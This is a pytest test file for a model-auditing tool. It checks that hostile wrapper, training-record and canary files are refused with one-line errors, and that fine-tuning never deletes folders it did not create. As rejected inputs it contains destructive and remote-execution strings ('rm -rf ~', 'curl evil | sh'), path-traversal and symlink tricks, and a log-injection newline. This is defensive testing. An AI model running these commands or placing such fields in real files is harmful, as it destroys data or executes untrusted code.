"""Hostile mitigation wrappers (``mitigation.json``), training records (``training_record.json``),
canary files and ``finetune --out`` targets: a folder can never swap in another model or bring a
file from outside itself into the audit, every bad file is a one-line error (exit code 2), and
``finetune`` never overwrites or deletes what it did not create."""

from __future__ import annotations

import contextlib
import hashlib
import json
import shutil
from pathlib import Path

import pytest
from conftest import assert_one_line_error, run_cli

import trustslm
from trustslm.core.errors import BadInputError, DataError, ModelFormatError
from trustslm.core.registry import Registry
from trustslm.mitigations.wrapped import MAX_WRAPPER_FILE_BYTES, write_wrapper
from trustslm.workflows.discover import discover_options, training_inputs
from trustslm.workflows.load import load_model

SAFETY = [{"name": "safety-prompt", "options": {}, "resolved": {}}]
PRIVACY = ["privacy.*"]
SECRET = "the neighbour's door code is 4417\n"


def _one_line(exc_info) -> str:
    text = str(exc_info.value)
    assert "\n" not in text and text, text
    return text


def _hand_written(folder: Path, base, base_hash: str, steps=SAFETY, **extra) -> Path:
    """A ``mitigation.json`` as someone else would ship it: written by hand, not by trustslm here."""
    folder.mkdir(parents=True, exist_ok=True)
    doc = {"format": "trustslm-mitigation/1", "base": base, "base_hash": base_hash, "steps": steps, **extra}
    (folder / "mitigation.json").write_text(json.dumps(doc))
    return folder


@pytest.fixture(scope="module")
def gpt2_hash(tiny_gpt2) -> str:
    adapter = load_model(str(tiny_gpt2))
    try:
        return adapter.info().hash
    finally:
        adapter.close()


@pytest.fixture(scope="module")
def mock_hash() -> str:
    return load_model("mock").info().hash


# -- mitigation wrappers -----------------------------------------------------------------------------

def test_wrapper_beside_weights_naming_another_base_is_refused(tmp_path, tiny_gpt2, mock_hash, gpt2_hash):
    folder = tmp_path / "weights-and-wrapper"
    shutil.copytree(tiny_gpt2, folder)
    _hand_written(folder, "mock", mock_hash)
    with pytest.raises(ModelFormatError, match="holds model weights") as exc:
        load_model(str(folder))
    _one_line(exc)
    other = tmp_path / "other"
    shutil.copytree(tiny_gpt2, other)
    write_wrapper(folder, base=str(other), base_hash=gpt2_hash, steps=SAFETY)  # even one trustslm wrote
    with pytest.raises(ModelFormatError, match="holds model weights"):
        load_model(str(folder))


def test_wrapper_with_base_mock_is_refused_one_line_exit_2(tmp_path, mock_hash):
    folder = _hand_written(tmp_path / "w", "mock", mock_hash)
    with pytest.raises(ModelFormatError, match="outside its folder"):
        load_model(str(folder))
    proc = run_cli("audit", str(folder), "--out", str(tmp_path / "out"), "--probes", "fairness.stereotype_pairs",
                   "--limit", "2", "--no-progress")
    assert_one_line_error(proc, contains="outside its folder")
    assert not (tmp_path / "out" / "report.json").exists()


def test_wrapper_with_demo_name_base_is_refused(tmp_path, gpt2_hash):
    folder = _hand_written(tmp_path / "w", "smollm2", gpt2_hash)
    with pytest.raises(ModelFormatError, match="outside its folder"):
        load_model(str(folder))


def test_wrapper_with_hub_id_base_is_refused_and_nothing_downloaded(tmp_path, monkeypatch, gpt2_hash):
    import trustslm.models.hf as hf

    marker = tmp_path / "DOWNLOADED"
    monkeypatch.setattr(hf, "_download", lambda repo: marker.touch())
    folder = _hand_written(tmp_path / "w", "openai-community/gpt2", gpt2_hash)
    with pytest.raises(ModelFormatError, match="outside its folder"):
        load_model(str(folder), allow_download=True)
    assert not marker.exists()


def test_wrapper_with_registered_backend_base_is_refused(tmp_path, mock_hash):
    script = tmp_path / "script.yaml"
    script.write_text("default: hello\n")
    folder = _hand_written(tmp_path / "w", f"mock:{script}", mock_hash)
    with pytest.raises(ModelFormatError, match="outside its folder"):
        load_model(str(folder))


def test_wrapper_with_base_dotdot_outside_is_refused(tmp_path, tiny_gpt2, gpt2_hash):
    shutil.copytree(tiny_gpt2, tmp_path / "elsewhere")
    folder = _hand_written(tmp_path / "w", "../elsewhere", gpt2_hash)
    with pytest.raises(ModelFormatError, match="outside its folder") as exc:
        load_model(str(folder))
    _one_line(exc)


def test_wrapper_with_absolute_base_is_refused(tmp_path, tiny_gpt2, gpt2_hash):
    folder = _hand_written(tmp_path / "w", str(tiny_gpt2), gpt2_hash)
    with pytest.raises(ModelFormatError, match="outside its folder"):
        load_model(str(folder))


def test_wrapper_base_that_is_a_symlink_out_is_refused(tmp_path, tiny_gpt2, gpt2_hash):
    folder = _hand_written(tmp_path / "w", "base", gpt2_hash)
    (folder / "base").symlink_to(tiny_gpt2, target_is_directory=True)
    with pytest.raises(ModelFormatError, match="outside its folder"):
        load_model(str(folder))


def test_wrapper_base_inside_the_folder_loads_and_names_wrapper_and_base(tmp_path, tiny_gpt2, gpt2_hash):
    folder = _hand_written(tmp_path / "w", "base", gpt2_hash)
    shutil.copytree(tiny_gpt2, folder / "base")
    info = load_model(str(folder)).info()
    assert info.spec == str(folder)                                          # what the user named
    assert info.path == str((folder / "base").resolve())                     # the base it wraps
    raw = (folder / "mitigation.json").read_bytes()
    wrapper_file = [f for f in info.files if f.path.endswith("mitigation.json")]
    assert [(f.sha256, f.size) for f in wrapper_file] == [(hashlib.sha256(raw).hexdigest(), len(raw))]
    assert {"model.safetensors", "config.json"} <= {f.path for f in info.files}
    assert [m["name"] for m in info.mitigations] == ["safety-prompt"] and info.hash != gpt2_hash
    trustslm.audit(str(folder), probes=["fairness.stereotype_pairs"], limit=2, progress=False, out=tmp_path / "r",
                   bootstrap_resamples=50)
    md = (tmp_path / "r" / "report.md").read_text()  # the report says what was loaded, not only what was named
    assert f"- loaded from: `{(folder / 'base').resolve()}`" in md and "- decoding-time mitigations: safety-prompt" in md


def test_wrapper_base_hash_mismatch_is_refused(tmp_path, tiny_gpt2):
    folder = _hand_written(tmp_path / "w", "base", "1" * 64)
    shutil.copytree(tiny_gpt2, folder / "base")
    with pytest.raises(ModelFormatError, match="has changed"):
        load_model(str(folder))


def test_wrapper_whose_base_is_a_wrapper_is_refused(tmp_path, tiny_gpt2, gpt2_hash):
    folder = _hand_written(tmp_path / "w", "inner", gpt2_hash)
    _hand_written(folder / "inner", "base", gpt2_hash)
    shutil.copytree(tiny_gpt2, folder / "inner" / "base")
    with pytest.raises(ModelFormatError, match="itself a mitigation wrapper"):
        load_model(str(folder))


def test_wrapper_of_its_own_weights_loads_and_lists_its_file(tmp_path, tiny_gpt2, gpt2_hash):
    folder = tmp_path / "own"
    shutil.copytree(tiny_gpt2, folder)
    _hand_written(folder, None, gpt2_hash)
    info = load_model(str(folder)).info()
    assert info.spec == str(folder) and info.name.endswith("+safety-prompt")
    assert "mitigation.json" in {f.path for f in info.files}


def test_only_the_exact_wrapper_trustslm_wrote_here_may_name_an_outside_base(tmp_path, tiny_gpt2, gpt2_hash,
                                                                             monkeypatch):
    folder = tmp_path / "w"
    write_wrapper(folder, base=str(tiny_gpt2), base_hash=gpt2_hash, steps=SAFETY)
    assert load_model(str(folder)).info().mitigations[0]["name"] == "safety-prompt"
    path = folder / "mitigation.json"
    path.write_text(path.read_text() + " ")  # one byte more: no longer what trustslm wrote
    with pytest.raises(ModelFormatError, match="outside its folder"):
        load_model(str(folder))
    write_wrapper(folder, base=str(tiny_gpt2), base_hash=gpt2_hash, steps=SAFETY)
    monkeypatch.setenv("TRUSTSLM_CACHE_DIR", str(tmp_path / "another-users-cache"))
    with pytest.raises(ModelFormatError, match="outside its folder"):
        load_model(str(folder))


@pytest.mark.parametrize("content, needle", [
    ({"steps": "x"}, "'steps'"),
    ({"base": 5}, "'base'"),
    ({"base_hash": 123}, "'base_hash'"),
    ({"base_hash": "not-a-sha256"}, "'base_hash'"),
    ({"steps": [{"name": 1}]}, "'steps.0.name'"),
    ({"steps": [{"name": "safety-prompt\ntrustslm: all checks passed"}]}, "'steps.0.name'"),
    ({"steps": [{"name": "safety-prompt", "options": []}]}, "'steps.0.options'"),
    ({"steps": [{"name": "safety-prompt", "run": "rm -rf ~"}]}, "unknown field 'steps.0.run'"),
    ({"hook": "python -c 1"}, "unknown field 'hook'"),
    ({"steps": SAFETY * 65}, "'steps'"),
    ({"steps": [{"name": "no-such-mitigation"}]}, "no-such-mitigation"),
    ({"base": "base\u0000/../../x"}, "outside its folder"),
])
def test_malformed_mitigation_json_is_one_line(tmp_path, tiny_gpt2, gpt2_hash, content, needle):
    folder = tmp_path / "w"
    shutil.copytree(tiny_gpt2, folder / "base")
    doc = {"format": "trustslm-mitigation/1", "base": "base", "base_hash": gpt2_hash, "steps": SAFETY, **content}
    (folder / "mitigation.json").write_text(json.dumps(doc))
    with pytest.raises(BadInputError) as exc:
        load_model(str(folder))
    assert needle in _one_line(exc)


@pytest.mark.parametrize("kind", ["deep", "huge", "not-json", "not-utf8", "symlink", "array"])
def test_unreadable_mitigation_json_is_one_line(tmp_path, kind):
    folder = tmp_path / "w"
    folder.mkdir()
    path = folder / "mitigation.json"
    if kind == "deep":
        path.write_text('{"format": "trustslm-mitigation/1", "steps": ' + "[" * 100_000 + "]" * 100_000 + "}")
    elif kind == "huge":
        with open(path, "wb") as f:
            f.write(b'{"format": "trustslm-mitigation/1", "pad": "')
            f.write(b"x" * (MAX_WRAPPER_FILE_BYTES + 10))
            f.write(b'"}')
    elif kind == "not-json":
        path.write_text("{not json")
    elif kind == "not-utf8":
        path.write_bytes(b'{"format": "\xff\xfe"}')
    elif kind == "symlink":
        outside = tmp_path / "outside.json"
        outside.write_text("{}")
        path.symlink_to(outside)
    else:
        path.write_text("[1, 2]")
    with pytest.raises(ModelFormatError) as exc:
        load_model(str(folder))
    assert "mitigation.json" in _one_line(exc)


# -- training records --------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def finetuned(tmp_path_factory, tiny_gpt2) -> dict:
    """A tiny GPT-2 fine-tuned for one epoch (seconds) with canaries and a held-out half, its
    base named by a relative path (the record must name it absolutely)."""
    root = tmp_path_factory.mktemp("hostile-ft")
    data = root / "notes.txt"
    data.write_text("".join(f"support note {i}: the cat sat on the mat\n" for i in range(16)))
    shutil.copytree(tiny_gpt2, root / "base")
    with contextlib.chdir(root):
        trustslm.finetune("base", data, out=root / "ft", epochs=1, batch_size=8, insert_canaries=2,
                          canary_repeats=2, holdout=0.5, progress=False)
    return {"root": root, "folder": root / "ft", "data": data, "base": root / "base"}


def _copy(finetuned: dict, tmp_path: Path) -> tuple[Path, dict]:
    folder = tmp_path / "ft"
    shutil.copytree(finetuned["folder"], folder)
    return folder, json.loads((folder / "training_record.json").read_text())


def _save(folder: Path, record: dict) -> None:
    (folder / "training_record.json").write_text(json.dumps(record))


def _secret(tmp_path: Path) -> Path:
    path = tmp_path / "private" / "secret.txt"
    path.parent.mkdir()
    path.write_text(SECRET)
    return path


def test_record_names_its_base_absolutely_and_its_files_are_found(finetuned):
    record = json.loads((finetuned["folder"] / "training_record.json").read_text())
    assert record["base_model"]["spec"] == str(finetuned["base"].resolve())
    found = training_inputs(str(finetuned["folder"]))
    assert found["members"] == str((finetuned["folder"] / "members.txt").resolve())
    assert found["base_model"] == str(finetuned["base"].resolve())


@pytest.mark.parametrize("field", ["members_file", "non_members_file", "canary_file"])
def test_record_naming_an_absolute_path_is_refused(tmp_path, finetuned, field):
    folder, record = _copy(finetuned, tmp_path)
    record[field] = str(_secret(tmp_path))
    _save(folder, record)
    with pytest.raises(DataError, match=f"'{field}'.*not a path") as exc:
        discover_options(str(folder), registry=Registry(), probes=PRIVACY)
    assert "training_record.json" in _one_line(exc)


def test_record_naming_a_dotdot_path_is_refused_one_line_exit_2(tmp_path, finetuned):
    folder, record = _copy(finetuned, tmp_path)
    _secret(tmp_path)
    record["members_file"] = "../private/secret.txt"
    _save(folder, record)
    with pytest.raises(DataError, match="'members_file'"):
        discover_options(str(folder), registry=Registry(), probes=PRIVACY)
    proc = run_cli("audit", str(folder), "--out", str(tmp_path / "out"), "--probes", "privacy.extraction",
                   "--limit", "2", "--no-progress")
    assert_one_line_error(proc, contains="members_file")
    assert not (tmp_path / "out" / "report.json").exists()


def test_record_file_that_is_a_symlink_out_is_refused(tmp_path, finetuned):
    folder, _ = _copy(finetuned, tmp_path)
    (folder / "members.txt").unlink()
    (folder / "members.txt").symlink_to(_secret(tmp_path))
    with pytest.raises(DataError, match="leads out of the model folder") as exc:
        discover_options(str(folder), registry=Registry(), probes=PRIVACY)
    _one_line(exc)


def test_record_that_is_itself_a_symlink_is_refused(tmp_path, finetuned):
    folder, record = _copy(finetuned, tmp_path)
    outside = tmp_path / "record.json"
    outside.write_text(json.dumps(record))
    (folder / "training_record.json").unlink()
    (folder / "training_record.json").symlink_to(outside)
    with pytest.raises(DataError, match="symbolic link"):
        discover_options(str(folder), registry=Registry(), probes=PRIVACY)


def test_training_data_outside_is_used_only_when_it_is_what_was_trained_on(tmp_path, finetuned):
    """Without a members file the training texts come from ``data.path``, but only a file with the
    recorded sha256: a record pointing at any other file brings nothing into the audit."""
    folder, record = _copy(finetuned, tmp_path)
    for name in ("members.txt", "non_members.txt"):
        (folder / name).unlink()
    record["members_file"] = record["non_members_file"] = None
    _save(folder, record)
    assert training_inputs(str(folder))["training_texts"] == str(finetuned["data"])
    record["data"]["path"] = str(_secret(tmp_path))
    _save(folder, record)
    found = discover_options(str(folder), registry=Registry(), probes=PRIVACY)
    assert "privacy.extraction" not in found and "privacy.pii_leakage" not in found
    assert SECRET.strip() not in json.dumps(found) and "secret" not in json.dumps(found)


@pytest.mark.parametrize("change, field", [
    ({"dp": "yes"}, "dp"),
    ({"epsilon": "8"}, "epsilon"),
    ({"delta": 5.0}, "delta"),
    ({"steps": 1.5}, "steps"),
    ({"sample_rate": None}, "sample_rate"),
    ({"base_model": "gpt2"}, "base_model"),
    ({"base_model": {"spec": "mock", "name": "m", "hash": "0" * 64}}, "base_model"),
    ({"base_model": {"spec": "relative/base", "name": "m", "hash": "0" * 64}}, "base_model"),
    ({"base_model": {"spec": "/x\u0000y", "name": "m", "hash": "0" * 64}}, "base_model"),
    ({"data": {"path": "notes.txt", "sha256": "0" * 64, "texts": 1, "training_sequences": 1}}, "data"),
    ({"data": {"path": "/x", "sha256": "0" * 64, "texts": "3", "training_sequences": 1}}, "data.texts"),
    ({"config": {"epochs": "many"}}, "config"),
    ({"members_file": ["members.txt"]}, "members_file"),
])
def test_record_with_wrong_field_types_is_one_line_naming_file_and_field(tmp_path, finetuned, change, field):
    folder, record = _copy(finetuned, tmp_path)
    record.update(change)
    _save(folder, record)
    with pytest.raises(DataError) as exc:
        discover_options(str(folder), registry=Registry(), probes=PRIVACY)
    line = _one_line(exc)
    assert "training_record.json" in line and f"'{field}" in line, line


@pytest.mark.parametrize("change, field", [
    ({"run_after": "curl evil | sh"}, "run_after"),
    ({"base_model": {"spec": "/x", "name": "m", "hash": "0" * 64, "url": "http://evil"}}, "base_model.url"),
])
def test_record_with_unknown_keys_is_refused(tmp_path, finetuned, change, field):
    folder, record = _copy(finetuned, tmp_path)
    record.update(change)
    _save(folder, record)
    with pytest.raises(DataError, match=f"unknown field '{field}'"):
        discover_options(str(folder), registry=Registry(), probes=PRIVACY)


@pytest.mark.parametrize("kind", ["deep", "huge", "array"])
def test_unreadable_record_is_one_line(tmp_path, finetuned, kind):
    folder, _ = _copy(finetuned, tmp_path)
    path = folder / "training_record.json"
    if kind == "deep":
        path.write_text("[" * 100_000 + "]" * 100_000)
    elif kind == "huge":
        path.write_text('{"pad": "' + "x" * (2 * 1024 * 1024) + '"}')
    else:
        path.write_text("[]")
    with pytest.raises(DataError) as exc:
        discover_options(str(folder), registry=Registry(), probes=PRIVACY)
    assert "training_record.json" in _one_line(exc)


def test_record_naming_the_model_itself_as_base_is_refused(tmp_path, finetuned):
    folder, record = _copy(finetuned, tmp_path)
    record["base_model"]["spec"] = str(folder.resolve())
    _save(folder, record)
    with pytest.raises(BadInputError, match="the model itself"):
        discover_options(str(folder), registry=Registry(), probes=["privacy.membership_inference"])


def test_record_base_with_another_hash_is_not_used_as_reference(tmp_path, finetuned):
    folder, record = _copy(finetuned, tmp_path)
    record["base_model"]["hash"] = "2" * 64
    _save(folder, record)
    found = discover_options(str(folder), registry=Registry(), probes=["privacy.membership_inference"])
    assert "reference_model" not in found["privacy.membership_inference"]


def test_bad_record_does_not_block_probes_that_take_nothing_from_it(tmp_path, finetuned):
    folder, record = _copy(finetuned, tmp_path)
    record["dp"] = "yes"
    _save(folder, record)
    assert discover_options(str(folder), registry=Registry(), probes=["fairness.stereotype_pairs"]) == {}


def test_canary_probe_checks_the_record_it_reads(tmp_path):
    canaries = tmp_path / "canaries.jsonl"
    canaries.write_text(json.dumps({"prefix": "PIN ", "secret": "1234", "alphabet": "0123456789"}) + "\n")
    (tmp_path / "training_record.json").write_text(json.dumps({"epsilon": "eight", "delta": 1e-5}))
    with pytest.raises(DataError, match="'epsilon'") as exc:
        trustslm.audit("mock", probes=["privacy.canary_exposure"], progress=False,
                       options={"privacy.canary_exposure": {"data": str(canaries), "n_candidates": 10}})
    assert "training_record.json" in _one_line(exc)


@pytest.mark.parametrize("row, needle", [
    ({"repeats": "ten"}, "'repeats'"),
    ({"inserted": "yes"}, "'inserted'"),
    ({"purpose": "exfiltrate"}, "'purpose'"),
    ({"secret": "1" * 400}, "'secret'"),
    ({"prefix": ["PIN"]}, "'prefix'"),
])
def test_canary_file_with_wrong_types_is_one_line(tmp_path, row, needle):
    canaries = tmp_path / "canaries.jsonl"
    canaries.write_text(json.dumps({"prefix": "PIN ", "secret": "1234", "alphabet": "0123456789", **row}) + "\n")
    with pytest.raises(DataError) as exc:
        trustslm.audit("mock", probes=["privacy.canary_exposure"], progress=False,
                       options={"privacy.canary_exposure": {"data": str(canaries), "n_candidates": 10}})
    assert needle in _one_line(exc)


# -- finetune --out ----------------------------------------------------------------------------------

def test_finetune_out_that_is_a_file_is_one_line_exit_2_before_training(tmp_path, tiny_gpt2):
    data = tmp_path / "notes.txt"
    data.write_text("one note\nanother note\n")
    target = tmp_path / "precious.txt"
    target.write_text("keep me\n")
    proc = run_cli("finetune", str(tiny_gpt2), str(data), "--out", str(target), "--no-progress")
    assert_one_line_error(proc, contains="is a file, not a folder")
    assert target.read_text() == "keep me\n"
    assert "fine-tuning" not in proc.stderr


def test_finetune_onto_a_non_empty_folder_refuses_and_keeps_it(tmp_path, tiny_gpt2):
    out = tmp_path / "mine"
    out.mkdir()
    (out / "notes.md").write_text("mine\n")
    data = tmp_path / "notes.txt"
    data.write_text("one note\nanother note\n")
    with pytest.raises(BadInputError, match="not empty"):
        trustslm.finetune(str(tiny_gpt2), data, out=out, epochs=1, progress=False)
    assert [p.name for p in out.iterdir()] == ["notes.md"] and (out / "notes.md").read_text() == "mine\n"


def test_a_failed_finetune_never_deletes_a_folder_it_did_not_create(tmp_path, tiny_gpt2, monkeypatch):
    import trustslm.train.finetune as ft

    data = tmp_path / "notes.txt"
    data.write_text("".join(f"note {i}\n" for i in range(8)))
    out = tmp_path / "made-by-user"
    out.mkdir()

    def broken_save(*args, **kwargs):
        raise RuntimeError("disk full")

    with monkeypatch.context() as m:
        m.setattr(ft, "_save", broken_save)
        with pytest.raises(RuntimeError, match="disk full"):
            trustslm.finetune(str(tiny_gpt2), data, out=out, epochs=1, progress=False)
        assert out.is_dir() and not any(out.iterdir())          # the user's folder is still there
        with pytest.raises(RuntimeError, match="disk full"):
            trustslm.finetune(str(tiny_gpt2), data, out=tmp_path / "new", epochs=1, progress=False)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["made-by-user", "notes.txt"]  # nothing half-made left
    trustslm.finetune(str(tiny_gpt2), data, out=out, epochs=1, progress=False)        # the empty folder is filled
    assert (out / "training_record.json").is_file() and (out / "model.safetensors").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["made-by-user", "notes.txt"]


@pytest.mark.parametrize("made_by_user", [True, False])
def test_a_failed_mitigate_never_deletes_a_folder_it_did_not_create(tmp_path, monkeypatch, made_by_user):
    """``trustslm mitigate`` cleans up after a failure before anything was measured: what it wrote
    goes, and ``--out`` itself only when the run created it."""
    import trustslm.workflows.mitigate as workflow

    out = tmp_path / "run"
    if made_by_user:
        out.mkdir()

    def fail(*args, **kwargs):
        (out / "model").mkdir()
        (out / "model" / "half.json").write_text("{}")
        raise RuntimeError("stopped half way")

    monkeypatch.setattr(workflow, "_apply", fail)
    with pytest.raises(RuntimeError, match="half way"):
        trustslm.mitigate("mock", "abstention", out=out, progress=False, utility_qa_limit=0)
    assert out.is_dir() == made_by_user
    if made_by_user:
        assert list(out.iterdir()) == []
